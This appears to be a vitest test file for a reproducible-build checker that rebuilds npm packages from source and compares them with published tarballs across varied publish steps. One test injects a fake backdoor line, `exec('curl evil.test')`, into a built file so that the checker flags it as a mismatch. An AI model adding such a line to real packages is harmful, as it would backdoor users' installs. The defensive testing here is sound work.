import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execa } from 'execa';
import { type GitPackage, makeGitPackage, packageJson } from '../fixtures/git-package.js';
import { commitTime, packTarball } from '../fixtures/publish.js';
import { Farm } from './farm.js';

/** A build with no dependencies: dist/index.js from src/index.js, stamped with the package's version. */
const BUILD_JS = `const fs = require('fs');
const { version } = require('./package.json');
fs.mkdirSync('dist', { recursive: true });
fs.writeFileSync('dist/index.js', '// built ' + version + '\\n' + fs.readFileSync('src/index.js', 'utf8'));
`;
const SRC = `'use strict';\nmodule.exports = (s) => s.split('').reverse().join('');\n`;

/**
 * Releases whose publisher ran more than `npm pack`: each maintainer's tarball is made on the host,
 * by the steps the publisher ran, in a copy of the repository; the farm must find those steps in the
 * source alone and call the release verified, never `mismatch`.
 */
describe('publish steps: what npm publish and release tools run beyond npm pack', () => {
  const farm = new Farm({ workers: 2, builders: 2, quorum: 2 });
  beforeAll(() => farm.start(), 240_000);
  afterAll(() => farm.stop(), 60_000);

  const logsOf = (view: { rebuilds: { logUrl?: string }[] }) => Promise.all(view.rebuilds.map(async (r) => (await farm.request('GET', r.logUrl!)).text()));

  /** The maintainer's publish: the given steps in a copy of the tagged source, then `npm pack` without scripts. */
  async function publishAfter(pkg: GitPackage, version: string, steps: string[][]): Promise<void> {
    const copy = await mkdtemp(join(tmpdir(), 'quorum-publisher-'));
    try {
      await cp(pkg.dir, copy, { recursive: true, filter: (src) => !/[/]\.git([/]|$)/.test(src) });
      for (const [cmd, ...args] of steps) await execa(cmd!, args, { cwd: copy });
      const tarball = await packTarball(copy, 'host', await commitTime(pkg));
      const manifest = JSON.parse(await readFile(join(copy, 'package.json'), 'utf8')) as Record<string, unknown>;
      farm.registry.publish({ tarball, manifest: { ...manifest, version, repository: { type: 'git', url: pkg.url } } });
    } finally {
      await rm(copy, { recursive: true, force: true });
    }
  }

  it('builds with prepublishOnly when nothing else builds the package, as npm publish did', async () => {
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/pub-only'),
      { 'package.json': packageJson('pub-only', '1.0.0', { main: 'dist/index.js', files: ['dist'], scripts: { prepublishOnly: 'node build.js' } }), 'build.js': BUILD_JS, 'src/index.js': SRC },
      'v1.0.0',
    );
    await publishAfter(pkg, '1.0.0', [['node', 'build.js']]);
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-only@1.0.0' });
    const logs = await logsOf(view);
    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
    expect(view.verdict?.notes?.join('\n')).toMatch(/`npm run prepublishOnly` before packing, as `npm publish` runs it/);
    for (const log of logs) expect(log).toContain('[quorum] npm run prepublishOnly');
  });

  it('packs the package as it stands when prepublishOnly only pushes, which a sandbox cannot', async () => {
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/pub-push'),
      { 'package.json': packageJson('pub-push', '1.0.0', { scripts: { prepublishOnly: 'git push origin --follow-tags' } }), 'index.js': SRC },
      'v1.0.0',
    );
    await publishAfter(pkg, '1.0.0', []);
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-push@1.0.0' });
    const logs = await logsOf(view);
    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
    for (const log of logs) expect(log).toMatch(/prepublishOnly exited with status [1-9]\d*: the package is packed as it stands/);
  });

  it('runs preprepare and postprepare hooks, which npm pack leaves out, through npm run prepare', async () => {
    const fixup = `require('fs').writeFileSync('dist/package.json', JSON.stringify({ type: 'commonjs' }) + '\\n');\n`;
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/pub-hooks'),
      {
        'package.json': packageJson('pub-hooks', '1.0.0', {
          main: 'dist/index.js',
          files: ['dist'],
          scripts: { preprepare: "node -e \"require('fs').rmSync('dist', { recursive: true, force: true })\"", prepare: 'node build.js', postprepare: 'node fixup.js' },
        }),
        'build.js': BUILD_JS,
        'fixup.js': fixup,
        'src/index.js': SRC,
      },
      'v1.0.0',
    );
    await publishAfter(pkg, '1.0.0', [['npm', 'run', 'prepare']]);
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-hooks@1.0.0' });
    const logs = await logsOf(view);
    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
    expect(view.verdict?.notes?.join('\n')).toMatch(/preprepare\/postprepare hooks/);
  });

  it('builds in a git repository of the source, as a checkout is, for build steps that ask git', async () => {
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/pub-git'),
      {
        // a hook installer's way: find the top level, fail outside a repository
        'package.json': packageJson('pub-git', '1.0.0', {
          main: 'dist/index.js',
          files: ['dist'],
          scripts: { prepare: 'cd "$(git rev-parse --show-toplevel)" && git check-ignore -q dist/index.js && node build.js' },
        }),
        '.gitignore': 'dist/\n',
        'build.js': BUILD_JS,
        'src/index.js': SRC,
      },
      'v1.0.0',
    );
    await publishAfter(pkg, '1.0.0', [['node', 'build.js']]);
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-git@1.0.0' });
    const logs = await logsOf(view);
    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
    for (const log of logs) expect(log).not.toMatch(/could not be made a git repository/);
  });

  it('sets the version a release tool set at publish, builds with it, and says so', async () => {
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/pub-version'),
      { 'package.json': packageJson('pub-version', '0.0.0-development', { main: 'dist/index.js', files: ['dist'], scripts: { build: 'node build.js' } }), 'build.js': BUILD_JS, 'src/index.js': SRC },
      'v1.2.0',
    );
    // semantic-release: `npm version` first, then the build and the publish
    await publishAfter(pkg, '1.2.0', [
      ['npm', 'version', '1.2.0', '--no-git-tag-version', '--allow-same-version'],
      ['node', 'build.js'],
    ]);
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-version@1.2.0' });
    const logs = await logsOf(view);
    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
    expect(view.verdict?.notes?.join('\n')).toMatch(/version set at publish: the source's package\.json says version "0\.0\.0-development" \(a placeholder\)/);
  });

  it('writes the version as changelogen does when the package releases with it', async () => {
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/pub-changelogen'),
      { 'package.json': packageJson('pub-changelogen', '1.3.2', { scripts: { release: 'changelogen --release && npm publish' } }), 'index.js': SRC },
      'v1.4.0',
    );
    // changelogen --release: package.json rewritten as two-space JSON, no final newline
    const bump = 'const fs = require("fs"); const p = JSON.parse(fs.readFileSync("package.json", "utf8")); p.version = "1.4.0"; fs.writeFileSync("package.json", JSON.stringify(p, null, 2))';
    await publishAfter(pkg, '1.4.0', [['node', '-e', bump]]);
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-changelogen@1.4.0' });
    const logs = await logsOf(view);
    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
    expect(view.verdict?.notes?.join('\n')).toMatch(/as `changelogen --release` \(a script of the package\) writes it/);
  });

  it('builds with the clock at the publish time, for builds that stamp the day into the package', async () => {
    const stamp = `const fs = require('fs');\nfs.mkdirSync('dist', { recursive: true });\nfs.writeFileSync('dist/index.js', '// (c) ' + new Date().toISOString().slice(0, 10) + '\\n' + fs.readFileSync('src/index.js', 'utf8'));\n`;
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/pub-clock'),
      { 'package.json': packageJson('pub-clock', '1.0.0', { main: 'dist/index.js', files: ['dist'], scripts: { build: 'node build.js' } }), 'build.js': stamp, 'src/index.js': SRC },
      'v1.0.0',
    );
    // the maintainer built and published on 2024-04-02
    await publishAfter(pkg, '1.0.0', [['sh', '-c', "mkdir -p dist && { echo '// (c) 2024-04-02'; cat src/index.js; } > dist/index.js"]]);
    farm.registry.setTime('pub-clock', '1.0.0', '2024-04-02T10:00:00.000Z');
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-clock@1.0.0' });
    const logs = await logsOf(view);
    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
    for (const log of logs) expect(log).toContain('[quorum] build clock starts at 2024-04-02T10:00:00Z (the publish time the registry records)');
  });

  /** A step of a publisher on Windows: package.json with CRLF line ends (npm version keeps those it finds). */
  const toCrlf = ['node', '-e', 'const fs = require("fs"); fs.writeFileSync("package.json", fs.readFileSync("package.json", "utf8").replace(/\\r?\\n/g, "\\r\\n"))'];

  it('packs package.json with CRLF line ends when the published one has them (published from Windows)', async () => {
    const pkg = await makeGitPackage(join(farm.dir, 'src/pub-crlf'), { 'package.json': packageJson('pub-crlf', '1.0.0'), 'index.js': SRC }, 'v1.0.0');
    await publishAfter(pkg, '1.0.0', [toCrlf]);
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-crlf@1.0.0' });
    const logs = await logsOf(view);
    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
    expect(view.verdict?.notes?.join('\n')).toMatch(/package\.json packed with CRLF line ends: the published one has them/);
    for (const log of logs) expect(log).toContain('[quorum] package.json written with CRLF line ends, as the published one');
  });

  it('still calls a CRLF package.json mismatch when more than its line ends differ (an added postinstall)', async () => {
    const pkg = await makeGitPackage(join(farm.dir, 'src/pub-crlf-evil'), { 'package.json': packageJson('pub-crlf-evil', '1.0.0'), 'index.js': SRC }, 'v1.0.0');
    const addHook = [
      'node',
      '-e',
      'const fs = require("fs"); const p = JSON.parse(fs.readFileSync("package.json", "utf8")); p.scripts = { postinstall: "node -e 1" }; fs.writeFileSync("package.json", JSON.stringify(p, null, 2) + "\\n")',
    ];
    await publishAfter(pkg, '1.0.0', [addHook, toCrlf]);
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-crlf-evil@1.0.0' });
    expect(view.verdict?.verdict).toBe('mismatch');
    expect(view.verdict?.risk?.level).toBe('high');
  });

  it("runs a build written for BSD sed's in-place form (a publisher on macOS)", async () => {
    const step = (sedInPlace: string) => `mkdir -p dist && cp src/index.js dist/index.js && ${sedInPlace} -e 's/reverse/toReversed/' dist/index.js`;
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/pub-bsd-sed'),
      { 'package.json': packageJson('pub-bsd-sed', '1.0.0', { main: 'dist/index.js', files: ['dist'], scripts: { build: step("sed -i ''") } }), 'src/index.js': SRC },
      'v1.0.0',
    );
    // what BSD sed did on the maintainer's machine, written for GNU sed
    await publishAfter(pkg, '1.0.0', [['sh', '-c', step('sed -i')]]);
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-bsd-sed@1.0.0' });
    const logs = await logsOf(view);
    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
    for (const log of logs) expect(log).toContain("[quorum] sed -i '': BSD sed's in-place form, run as GNU sed -i");
  });

  it("calls a monorepo package that the workspace root's release script builds failed (build-incomplete), never a mismatch of the unbuilt package", async () => {
    const rootBuild = `const fs = require('fs');\nfs.mkdirSync('packages/lib/dist', { recursive: true });\nfs.writeFileSync('packages/lib/dist/index.js', fs.readFileSync('packages/lib/src/index.js', 'utf8'));\n`;
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/mono-root-built'),
      {
        'package.json': JSON.stringify({ name: 'mono-root-built-root', private: true, scripts: { release: 'node build.js && npm publish packages/lib' } }, null, 2),
        'build.js': rootBuild,
        'packages/lib/package.json': packageJson('mono-root-built', '1.0.0', { main: 'dist/index.js', files: ['dist', 'src'] }),
        'packages/lib/src/index.js': SRC,
      },
      'v1.0.0',
    );
    const copy = await mkdtemp(join(tmpdir(), 'quorum-publisher-'));
    try {
      await cp(pkg.dir, copy, { recursive: true, filter: (src) => !/[/]\.git([/]|$)/.test(src) });
      await execa('node', ['build.js'], { cwd: copy });
      const tarball = await packTarball(copy, 'host', await commitTime(pkg), { directory: 'packages/lib' });
      farm.registry.publish({ tarball, manifest: { name: 'mono-root-built', version: '1.0.0', repository: { type: 'git', url: pkg.url, directory: 'packages/lib' } } });
    } finally {
      await rm(copy, { recursive: true, force: true });
    }
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/mono-root-built@1.0.0' });
    expect(view.verdict?.verdict).toBe('failed');
    for (const r of view.rebuilds) {
      expect(r.reason).toBe('build-incomplete');
      expect(r.message).toMatch(/the rebuilt package lacks "dist\/index\.js", which its own manifest names as entry points and the published artifact has/);
    }
  });

  it('packs from the directory dual-publish writes when the package publishes with it (ES module copies of its CommonJS sources)', async () => {
    // the real dual-publish and everything it needs, copied from the public registry into the farm's
    // the package's clean-publish config applies too: comments left out of the published code
    const manifest = packageJson('pub-dual', '1.0.0', { devDependencies: { 'dual-publish': '4.0.0' }, 'clean-publish': { cleanComments: true } });
    const resolveDir = await mkdtemp(join(tmpdir(), 'quorum-dual-lock-'));
    let lockText: string;
    try {
      await writeFile(join(resolveDir, 'package.json'), manifest);
      await execa('npm', ['install', '--package-lock-only', '--ignore-scripts', '--no-audit', '--no-fund', '--registry', 'https://registry.npmjs.org/'], { cwd: resolveDir });
      lockText = await readFile(join(resolveDir, 'package-lock.json'), 'utf8');
    } finally {
      await rm(resolveDir, { recursive: true, force: true });
    }
    const locked = JSON.parse(lockText) as { packages: Record<string, { name?: string; version?: string }> };
    for (const [path, entry] of Object.entries(locked.packages)) {
      if (path.includes('node_modules/')) await farm.registry.mirror(entry.name ?? path.slice(path.lastIndexOf('node_modules/') + 'node_modules/'.length), entry.version!);
    }
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/pub-dual'),
      {
        'package.json': manifest,
        'package-lock.json': lockText,
        'index.js': "let { twice } = require('./lib/index.js')\n\n// doubles, then adds one\nfunction next(n) {\n  return twice(n) + 1\n}\n\nmodule.exports = { next }\n",
        'lib/index.js': 'function twice(n) {\n  return n * 2\n}\n\nmodule.exports = { twice }\n',
      },
      'v1.0.0',
    );
    // the maintainer: `npx dual-publish`, which publishes the directory it wrote
    const copy = await mkdtemp(join(tmpdir(), 'quorum-publisher-'));
    try {
      await cp(pkg.dir, copy, { recursive: true });
      await execa('npm', ['ci', '--ignore-scripts', '--no-audit', '--no-fund', '--registry', 'https://registry.npmjs.org/'], { cwd: copy });
      await execa('npx', ['dual-publish', '--without-publish'], { cwd: copy });
      const tarball = await packTarball(join(copy, 'dual-publish-tmp'), 'host', await commitTime(pkg));
      const published = JSON.parse(await readFile(join(copy, 'dual-publish-tmp/package.json'), 'utf8')) as Record<string, unknown>;
      expect(published).toMatchObject({ type: 'module', main: 'index.cjs' });
      expect(await readFile(join(copy, 'dual-publish-tmp/index.js'), 'utf8')).not.toContain('// doubles');
      farm.registry.publish({ tarball, manifest: { ...published, repository: { type: 'git', url: pkg.url } } });
    } finally {
      await rm(copy, { recursive: true, force: true });
    }
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-dual@1.0.0' });
    const logs = await logsOf(view);
    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
    expect(view.verdict?.notes?.join('\n')).toMatch(/dual-publish is among the devDependencies/);
    for (const log of logs) expect(log).toContain('[quorum] dual-publish --without-publish');
  });

  it('still calls a tarball mismatch when its code differs from what the publish steps build', async () => {
    const pkg = await makeGitPackage(
      join(farm.dir, 'src/pub-evil'),
      { 'package.json': packageJson('pub-evil', '1.0.0', { main: 'dist/index.js', files: ['dist'], scripts: { prepublishOnly: 'node build.js' } }), 'build.js': BUILD_JS, 'src/index.js': SRC },
      'v1.0.0',
    );
    // the publisher's machine built from a changed source: the change exists only in the tarball
    await publishAfter(pkg, '1.0.0', [
      ['node', 'build.js'],
      ['sh', '-c', "echo \"require('child_process').exec('curl evil.test');\" >> dist/index.js"],
    ]);
    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-evil@1.0.0' });
    expect(view.verdict?.verdict).toBe('mismatch');
    expect(view.verdict?.risk?.level).toBe('high');
  });
});
